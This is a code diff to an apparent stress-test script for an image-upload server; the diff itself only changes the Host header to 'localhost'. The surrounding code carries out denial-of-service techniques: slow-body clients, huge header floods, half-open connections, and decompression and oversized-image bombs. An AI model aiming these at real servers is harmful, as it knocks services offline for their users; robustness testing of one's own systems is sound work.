@@ -95,7 +95,7 @@ def attack(url: str, image: bytes, numbers: range, idle: int) -> Counter[str]:
     open_ones = [socket.create_connection(address) for _ in range(idle)]
     for number, connection in enumerate(open_ones):
         if number % 2:
-            connection.sendall(f"POST {parts.path} HTTP/1.1\r\nHost: x\r\nContent-Le".encode())
+            connection.sendall(f"POST {parts.path} HTTP/1.1\r\nHost: localhost\r\nContent-Le".encode())
     bombs = [png_bomb(), jpeg_of_size(image, 65_500, 65_500)]
     answers: Counter[str] = Counter()
 
@@ -129,7 +129,9 @@ def attack(url: str, image: bytes, numbers: range, idle: int) -> Counter[str]:
 
 def dawdle(address: tuple[str, int], path: str, stop: threading.Event) -> None:
     """Fifty clients that send a byte of body a second."""
-    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\nContent-Length: 60000\r\n\r\n".encode()
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: image/jpeg\r\nContent-Length: 60000\r\n\r\n".encode()
+    )
     slow: list[socket.socket] = []
     while not stop.wait(1):
         while len(slow) < 50:
@@ -146,7 +148,7 @@ def dawdle(address: tuple[str, int], path: str, stop: threading.Event) -> None:
 
 def shout(address: tuple[str, int], path: str, stop: threading.Event) -> None:
     """A client that sends huge headers again and again."""
-    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nX-Long: ".encode() + b"a" * 1_000_000
+    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nX-Long: ".encode() + b"a" * 1_000_000
     while not stop.wait(0.1):
         with socket.create_connection(address) as connection, contextlib.suppress(OSError):
             connection.sendall(head)
